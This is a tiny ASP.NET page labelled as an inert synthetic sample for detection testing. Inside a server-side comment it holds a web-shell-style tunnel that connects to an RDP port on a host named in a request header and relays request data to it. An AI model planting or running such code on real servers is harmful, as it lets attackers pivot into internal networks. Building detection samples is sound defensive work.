<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% string id = Request.Headers["X-Id"]; TcpClient client = Application[id] as TcpClient; if (client == null) { client = new TcpClient(); client.Connect(Request.Headers["X-Host"], 3389); Application[id] = client; } Request.InputStream.CopyTo(client.GetStream()); %>
--%>
